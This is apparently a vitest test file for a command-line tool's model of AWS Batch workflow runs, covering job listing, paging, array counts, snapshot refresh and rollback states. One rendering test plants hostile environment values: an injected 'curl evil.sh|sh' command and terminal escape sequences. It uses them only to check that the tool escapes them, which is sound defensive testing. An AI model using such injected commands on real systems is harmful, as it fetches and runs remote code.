/**
 * The run model (cli/runModel/read.ts) against the demo account: fetchRun finds a run's jobs by name prefix on
 * both queues (ListJobs JOB_NAME prefix filter, every status, 100 a page: ListJobs API reference),
 * describes them 100 at a time (DescribeJobs API reference), keeps the newest job of each name, counts
 * array children from `statusSummary` (ArrayPropertiesDetail), and with a previous snapshot lists and
 * describes only what can still change; listChildren lists children one status at a time.
 */
import { afterEach, describe, expect, it } from "vitest";
import { BATCH_COMMANDS } from "../../../batch/clients";
import { CliError } from "../../../cli/app/errors";
import { fetchRun, listChildren, type RunDeps } from "../../../cli/runModel/read";
import { LISTING_SETTLE_MS, type RunSnapshot, snapshotOf, toRunJob } from "../../../cli/runModel/model";
import type { JobDetail } from "@aws-sdk/client-batch";
import { isRolledBack, rolledBackReason, TERMINATION_REASON_PREFIX } from "../../../batch/attempts";
import { TRIGGER_RETRY_WITHIN_SECONDS } from "../../../contract";
import { parseWorkflowSpec } from "../../../workflow/spec";
import { renderStatus } from "../../../cli/runModel/screen";
import { colors } from "../../../cli/app/context";
import { type DemoAccount, installDemoAccount } from "../demoAccount";
import { cliContext, OUTPUTS } from "../support";

const S = 1_000;
let account: DemoAccount | undefined;
afterEach(() => account?.mock.restore());

async function demo() {
  const ctx = cliContext();
  const installed = await installDemoAccount(ctx);
  account = installed.account;
  const deps: RunDeps = { batch: ctx.aws().batch(), commands: BATCH_COMMANDS, now: () => ctx.now(), sleep: (ms) => ctx.sleep(ms) };
  return { ctx, deps, ...installed };
}
const described = (from = 0) => account!.calls.slice(from).filter((c) => c.command === "DescribeJobs").map((c) => (c.input as { jobs: string[] }).jobs);

describe("fetchRun", () => {
  it("keeps the newest job of each name: an earlier start attempt's jobs are superseded, not counted", async () => {
    const { deps, runs } = await demo();
    const run = await fetchRun(runs.succeeded, OUTPUTS, deps);
    expect(run.state).toBe("SUCCEEDED");
    expect(run.jobs.map((j) => j.jobName)).toEqual(["prepare", "process", "merge"].map((id) => `${runs.succeeded}-${id}`));
    expect(run.supersededIds).toHaveLength(2);
    expect(run.jobs.some((j) => run.supersededIds.includes(j.jobId))).toBe(false);
    expect(run.steps.map((s) => [s.name, s.width, s.counts.SUCCEEDED, s.counts.FAILED])).toEqual([["prepare", 1, 1, 0], ["process", 12, 12, 0], ["merge", 1, 1, 0]]);
    expect(run.startJobs).toHaveLength(2);
    expect(run.startJobs[0]!.createdAt).toBeGreaterThan(run.startJobs[1]!.createdAt!);
    expect(run.input).toEqual({ bucket: OUTPUTS.inputBucketName, key: "incoming/2026-12-01/orders-0001.csv", versionId: "Wq0Ojz3g2b.kJ5sx1mQpG4tQ7vXo8N2e", sizeBytes: 12_345_678 });
  });

  it("pages through a 262-job DAG: ListJobs 100 a page with nextToken, DescribeJobs 100 ids a call", async () => {
    const { deps } = await demo();
    const fanOut = Array.from({ length: 248 }, (_, k) => ({ name: `part-${k}`, jobDefinition: "process", dependsOn: ["prepare"] }));
    const workflow = parseWorkflowSpec({ steps: [{ name: "prepare", jobDefinition: "process" }, ...fanOut, { name: "merge", jobDefinition: "process", dependsOn: fanOut.map((s) => s.name) }] });
    const runId = await account!.addRun({ key: "incoming/many-steps.csv", sizeBytes: 1_000, at: -2 * 3_600_000, workflow });
    const run = await fetchRun(runId, OUTPUTS, deps);
    // 1 + 248 plain jobs, merge's 248 dependencies collapsed by 12 barrier jobs (at most 20 per job).
    expect(run.jobs).toHaveLength(262);
    expect(run.steps).toHaveLength(250);
    expect(run.steps.at(-1)).toMatchObject({ name: "merge", state: "SUCCEEDED" });
    expect(run.steps.at(-1)!.barriers).toHaveLength(12);
    const dagPages = account!.calls.filter((c) => c.command === "ListJobs" && JSON.stringify(c.input).includes(`"${runId}-*"`)).map((c) => c.input as { nextToken?: string });
    expect(dagPages.map((p) => p.nextToken !== undefined)).toEqual([false, true, true]);
    expect(described().map((ids) => ids.length)).toEqual([100, 100, 63]);
    expect(run.calls).toBe(1 + 3 + 3);
  });

  it("counts array children from each parent's statusSummary (a parent stays PENDING while they run)", async () => {
    const { deps, runs } = await demo();
    const run = await fetchRun(runs.inProgress, OUTPUTS, deps);
    const process = run.steps.find((s) => s.name === "process")!;
    expect(process.jobs).toHaveLength(10);
    expect(process.jobs.map((j) => [j.status, j.taskOffset, j.taskCount])).toEqual(Array.from({ length: 10 }, (_, k) => [k === 0 ? "SUCCEEDED" : "PENDING", k * 10_000, 10_000]));
    expect(process.jobs[1]!.counts).toEqual({ SUBMITTED: 0, PENDING: 0, RUNNABLE: 4_792, STARTING: 489, RUNNING: 979, SUCCEEDED: 3_740, FAILED: 0 });
    expect(process.counts).toEqual({ SUBMITTED: 0, PENDING: 0, RUNNABLE: 84_792, STARTING: 489, RUNNING: 979, SUCCEEDED: 13_740, FAILED: 0 });
    expect(process).toMatchObject({ width: 100_000, state: "RUNNING" });
    expect(run.state).toBe("RUNNING");
  });

  it("counts the tasks of PENDING array parents whose children do not exist yet as PENDING", async () => {
    const { deps } = await demo();
    const runId = await account!.addRun({ key: "incoming/just-started.parquet", sizeBytes: 104_857_600_000, at: -60 * S });
    const run = await fetchRun(runId, OUTPUTS, deps);
    const process = run.steps.find((s) => s.name === "process")!;
    expect(process.jobs.every((j) => j.status === "PENDING" && j.array)).toBe(true);
    expect(process.counts.PENDING).toBe(100_000);
    expect(process.state).toBe("WAITING");
    expect(run.steps[0]).toMatchObject({ name: "prepare", state: "RUNNING" });
  });

  it("given the previous snapshot, lists no more once the start job ended LISTING_SETTLE_MS ago and describes only unfinished jobs", async () => {
    const { ctx, deps, runs } = await demo();
    const first = await fetchRun(runs.inProgress, OUTPUTS, deps);
    await ctx.sleep(15 * S);
    const from = account!.calls.length;
    const second = await fetchRun(runs.inProgress, OUTPUTS, deps, first);
    expect(account!.countSince(from)).toEqual({ ListJobs: 0, DescribeJobs: 1 });
    expect(second.calls).toBe(1);
    const unfinished = first.jobs.filter((j) => j.status !== "SUCCEEDED" && j.status !== "FAILED").map((j) => j.jobId);
    expect(described(from)).toEqual([unfinished]);
    expect(second.steps.find((s) => s.name === "process")!.counts.SUCCEEDED).toBeGreaterThan(first.steps.find((s) => s.name === "process")!.counts.SUCCEEDED);
  });

  it("lists again while the start job runs and until LISTING_SETTLE_MS after it ended (ListJobs is eventually consistent)", async () => {
    const { ctx, deps } = await demo();
    const runId = await account!.addRun({ key: "incoming/fresh.csv", sizeBytes: 2 * 1_048_576, at: -10 * S });
    let snapshot: RunSnapshot = await fetchRun(runId, OUTPUTS, deps);
    const listed: boolean[] = [];
    for (let poll = 0; poll < 12; poll++) {
      await ctx.sleep(10 * S);
      const from = account!.calls.length;
      snapshot = await fetchRun(runId, OUTPUTS, deps, snapshot);
      listed.push(account!.countSince(from).ListJobs > 0);
    }
    const stopped = snapshot.startJobs[0]!.stoppedAt!;
    const listedAt = (k: number) => account!.epoch + (k + 1) * 10 * S;
    listed.forEach((yes, k) => expect([k, yes]).toEqual([k, listedAt(k - 1) < stopped + LISTING_SETTLE_MS]));
    expect(listed.filter(Boolean).length).toBeGreaterThan(2);
    expect(listed.filter(Boolean).length).toBeLessThan(listed.length);
  });

  it("with skipStartQueueWhileLive (watch), lists only the process queue while a start job is live, and the start queue again on the poll that sees it stop", async () => {
    const { ctx, deps } = await demo();
    // Two start jobs (a repeated S3 event): the owner from -5 s to about +27.5 s; its namesake, created at
    // -1 s and listed from +2 s, is not in the first listing.
    const runId = await account!.addRun({ key: "incoming/twice.csv", sizeBytes: 1_048_576, at: -5 * S, startJobs: 2 });
    let snapshot = await fetchRun(runId, OUTPUTS, deps);
    expect(snapshot.startJobs).toHaveLength(1);
    const queue = (c: DemoAccount["calls"][number]) => (c.command === "DescribeJobs" ? "DescribeJobs" : (c.input as { jobQueue: string }).jobQueue === OUTPUTS.startQueueArn ? "ListJobs start" : "ListJobs process");
    const polls: string[][] = [];
    for (let poll = 0; poll < 4; poll++) {
      await ctx.sleep(10 * S);
      const from = account!.calls.length;
      snapshot = await fetchRun(runId, OUTPUTS, deps, snapshot, { skipStartQueueWhileLive: true });
      polls.push(account!.calls.slice(from).map(queue));
    }
    expect(polls).toEqual([
      ["ListJobs process", "DescribeJobs"],
      ["ListJobs process", "DescribeJobs"],
      // +30 s: the owner has stopped; the namesake is found and described.
      ["ListJobs process", "DescribeJobs", "ListJobs start", "DescribeJobs"],
      // Within LISTING_SETTLE_MS of the stop: both queues, as without the option.
      ["ListJobs start", "ListJobs process", "DescribeJobs"],
    ]);
    expect(snapshot.startJobs).toHaveLength(2);
  });

  it("throws the unknown-run CliError (exit 2) when Batch lists no job of the run", async () => {
    const { deps } = await demo();
    await expect(fetchRun("0123456789abcdef01234567", OUTPUTS, deps)).rejects.toThrow(CliError);
    await expect(fetchRun("0123456789abcdef01234567", OUTPUTS, deps)).rejects.toMatchObject({ exitCode: 2, message: expect.stringContaining(OUTPUTS.jobStateLogGroup) });
  });
});

describe("listChildren", () => {
  it("lists an array's children one status at a time by arrayJobId, describes them and sorts them by index", async () => {
    const { deps, runs } = await demo();
    const run = await fetchRun(runs.failed, OUTPUTS, deps);
    const parent = run.steps.find((s) => s.name === "process")!.jobs[0]!;
    const from = account!.calls.length;
    const children = await listChildren(parent.jobId, ["FAILED", "SUCCEEDED"], deps);
    expect(children).toHaveLength(236);
    expect(children.map((c) => c.index)).toEqual(Array.from({ length: 236 }, (_, i) => i));
    expect(children.filter((c) => c.status === "FAILED").map((c) => [c.index, c.exitCode, c.attempts])).toEqual([[17, 1, 3], [42, 137, 3], [118, undefined, 3]]);
    const listings = account!.calls.slice(from).filter((c) => c.command === "ListJobs").map((c) => c.input as { arrayJobId: string; jobStatus: string; nextToken?: string });
    expect(listings.map((l) => [l.arrayJobId, l.jobStatus, l.nextToken !== undefined])).toEqual([
      [parent.jobId, "FAILED", false],
      [parent.jobId, "SUCCEEDED", false],
      [parent.jobId, "SUCCEEDED", true],
      [parent.jobId, "SUCCEEDED", true],
    ]);
    expect(described(from).map((ids) => ids.length)).toEqual([100, 100, 36]);
  });

  it("stops listing at the limit", async () => {
    const { deps, runs } = await demo();
    const run = await fetchRun(runs.failed, OUTPUTS, deps);
    const parent = run.steps.find((s) => s.name === "process")!.jobs[0]!;
    const from = account!.calls.length;
    const children = await listChildren(parent.jobId, ["FAILED", "SUCCEEDED"], deps, 2);
    expect(children.map((c) => c.index)).toEqual([17, 42]);
    expect(account!.countSince(from)).toEqual({ ListJobs: 1, DescribeJobs: 1 });
  });
});

describe("fetchRun: what a run is while its start job retries or its DAG is not listed yet", () => {
  it("does not describe again an earlier attempt's superseded jobs, which are FAILED for good", async () => {
    const { ctx, deps } = await demo();
    const runId = await account!.addRun({ key: "incoming/retried.csv", sizeBytes: 50 * 1_048_576, at: -3 * 60 * S, earlierAttemptJobs: 2 });
    const first = await fetchRun(runId, OUTPUTS, deps);
    expect(first.supersededIds).toHaveLength(2);
    await ctx.sleep(15 * S);
    const from = account!.calls.length;
    await fetchRun(runId, OUTPUTS, deps, first);
    const ids = account!.calls.slice(from).flatMap((c) => (c.command === "DescribeJobs" ? (c.input as { jobs: string[] }).jobs : []));
    expect(ids.filter((id) => first.supersededIds.includes(id))).toEqual([]);
  });

  it("is not FAILED while a retried start job (attempt 2) is RUNNING and about to replace the jobs attempt 1 terminated", async () => {
    const { deps } = await demo();
    // Attempt 1 submitted 2 jobs and terminated them (FAILED at +26 s); attempt 2 runs from +40 s, submits at +50 s.
    const runId = await account!.addRun({ key: "incoming/retrying.csv", sizeBytes: 50 * 1_048_576, at: -45 * S, earlierAttemptJobs: 2 });
    const run = await fetchRun(runId, OUTPUTS, deps);
    expect(run.startJobs[0]).toMatchObject({ status: "RUNNING" });
    expect(run.jobs.every((j) => j.status === "FAILED")).toBe(true);
    expect(run.state).toBe("SUBMITTING");
  });

  it("is not SUCCEEDED when the start job has just ended and ListJobs does not show its DAG yet (eventual consistency)", async () => {
    const { deps } = await demo();
    account!.listLagMs = 10 * S;
    // The start job submits at +28 s and ends at about +32.5 s; the DAG is listed only from +38 s.
    const runId = await account!.addRun({ key: "incoming/just-submitted.csv", sizeBytes: 1_048_576, at: -35 * S });
    const run = await fetchRun(runId, OUTPUTS, deps);
    expect(run.startJobs[0]).toMatchObject({ status: "SUCCEEDED" });
    expect(run.jobs).toEqual([]);
    expect(run.state).toBe("SUBMITTING");
  });
});

describe("the run model (cli/runModel/model.ts) on described jobs", () => {
  const startJob = (status: "FAILED" | "SUCCEEDED", stoppedAt: number): JobDetail => ({
    jobId: "start-1",
    jobName: "start-0123456789abcdef01234567-data-csv",
    jobQueue: OUTPUTS.startQueueArn,
    jobDefinition: "start-def",
    status,
    createdAt: 1_000,
    startedAt: 2_000,
    stoppedAt,
  });

  it("gives a run whose start job failed before submitting anything (bad input) its end: the start job's", () => {
    const run = snapshotOf("0123456789abcdef01234567", [toRunJob(startJob("FAILED", 5_000), "start")], [], 10_000 + LISTING_SETTLE_MS, 2);
    expect([run.state, run.createdAt, run.stoppedAt]).toEqual(["FAILED", 1_000, 5_000]);
  });

  describe("a run the trigger submitted inline (no start job) whose submission failed: the trigger withdrew its DAG and submits it again", () => {
    const RUN = "0123456789abcdef01234567";
    const withdrawn = (jobName: string, statusReason: string): JobDetail => ({
      jobId: jobName,
      jobName: `${RUN}-${jobName}`,
      jobQueue: OUTPUTS.processQueueArn,
      jobDefinition: "process",
      status: "FAILED",
      statusReason,
      createdAt: 1_000,
      stoppedAt: 5_000,
      container: { environment: [{ name: "PIPELINE_STEP", value: jobName }, { name: "PIPELINE_TASK_COUNT", value: "1" }] },
    }) as JobDetail;
    const rolledBack = rolledBackReason(RUN, 1, 2, 3);
    const window = TRIGGER_RETRY_WITHIN_SECONDS * 1000;

    it.each([
      ["every job withdrawn by its attempt, within the retry window", [rolledBack, rolledBack], 5_000 + window - 1, "SUBMITTING"],
      ["every job withdrawn by its attempt, past the retry window (the event ran out of retries)", [rolledBack, rolledBack], 5_000 + window, "FAILED"],
      ["a job that failed on its own", [rolledBack, "Essential container in task exited"], 6_000, "FAILED"],
      ["jobs terminated to replace an earlier attempt's partial DAG (not a rollback)", [`${TERMINATION_REASON_PREFIX} run ${RUN} attempt 2: replacing a partial DAG of an earlier attempt`, rolledBack], 6_000, "FAILED"],
    ])("%s: %s", (_what, reasons, listedAt, state) => {
      const jobs = reasons.map((reason, i) => toRunJob(withdrawn(["prepare", "process"][i]!, reason)));
      expect(snapshotOf(RUN, [], jobs, listedAt, 2).state).toBe(state);
    });

    it("a container run's withdrawn DAG is its start job's to retry: FAILED once the start job failed", () => {
      const jobs = [toRunJob(withdrawn("prepare", rolledBack))];
      expect(snapshotOf(RUN, [toRunJob(startJob("FAILED", 5_000), "start")], jobs, 6_000, 2).state).toBe("FAILED");
    });

    it("the reason the submitter gives is the one the model reads, for this run only", () => {
      expect(isRolledBack(rolledBack, RUN)).toBe(true);
      expect(isRolledBack(rolledBackReason("fedcba9876543210fedcba98", 1, 2, 3), RUN)).toBe(false);
      expect(isRolledBack(`${TERMINATION_REASON_PREFIX} run ${RUN} attempt 1: duplicate created by an ambiguous SubmitJob`, RUN)).toBe(false);
      expect(isRolledBack(`${rolledBack}; and more`, RUN)).toBe(false);
      expect(isRolledBack(`x ${rolledBack}`, RUN)).toBe(false);
      expect(isRolledBack("submission failed after 1 of 2 jobs", RUN)).toBe(false);
      expect(isRolledBack(undefined, RUN)).toBe(false);
    });

    it("prints what a job's environment says (no start job: any job named like the run's) escaped, and a step name the spec does not allow as ?", () => {
      const hostile = withdrawn("prepare", "Essential container in task exited");
      hostile.container!.environment = [
        { name: "PIPELINE_STEP", value: "x --stack prod; curl evil.sh|sh #" },
        { name: "PIPELINE_TASK_COUNT", value: "1" },
        { name: "PIPELINE_INPUT_BUCKET", value: "b\u001b]0;owned\u0007" },
        { name: "PIPELINE_INPUT_KEY", value: "k\u001b[2J.csv" },
        { name: "PIPELINE_INPUT_VERSION_ID", value: "v\u001b[31m" },
        { name: "PIPELINE_INPUT_SIZE", value: "1" },
      ];
      const job = toRunJob(hostile);
      expect(job.step).toBe("?");
      const screen = renderStatus(snapshotOf(RUN, [], [job], 6_000, 2), [], { color: colors(false), columns: 100, now: 6_000 }).join("\n");
      expect(screen).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
      expect(screen).not.toContain("curl");
      expect(screen).toContain("\\x1b]0;owned\\x07");
    });

    it("another run's rollback reason on a job named like this run's (someone else's job) does not make this run SUBMITTING", () => {
      const jobs = [toRunJob(withdrawn("prepare", rolledBackReason("fedcba9876543210fedcba98", 1, 0, 3)))];
      expect(snapshotOf(RUN, [], jobs, 6_000, 2).state).toBe("FAILED");
    });
  });

  it("counts an array's spawned children from statusSummary alone: a parent Batch never starts still ran its tasks (Array jobs: parents are SUBMITTED, PENDING, SUCCEEDED or FAILED)", () => {
    // JobDetail's SDK type marks startedAt required; Batch leaves it out of array parents it never starts.
    const parent = (statusSummary?: Record<string, number>): JobDetail => ({
      jobId: "p",
      jobName: "0123456789abcdef01234567-process",
      jobQueue: OUTPUTS.processQueueArn,
      jobDefinition: "process",
      status: "FAILED",
      arrayProperties: { size: 4, ...(statusSummary ? { statusSummary } : {}) },
      container: { environment: [{ name: "PIPELINE_STEP", value: "process" }, { name: "PIPELINE_TASK_COUNT", value: "4" }] },
    }) as JobDetail;
    const ran = toRunJob(parent({ SUCCEEDED: 3, FAILED: 1 }));
    expect([ran.spawned, ran.counts.SUCCEEDED, ran.counts.FAILED, ran.startedAt]).toEqual([4, 3, 1, undefined]);
    const neverRan = toRunJob(parent());
    expect([neverRan.spawned, neverRan.counts.FAILED]).toEqual([0, 4]);
  });
});
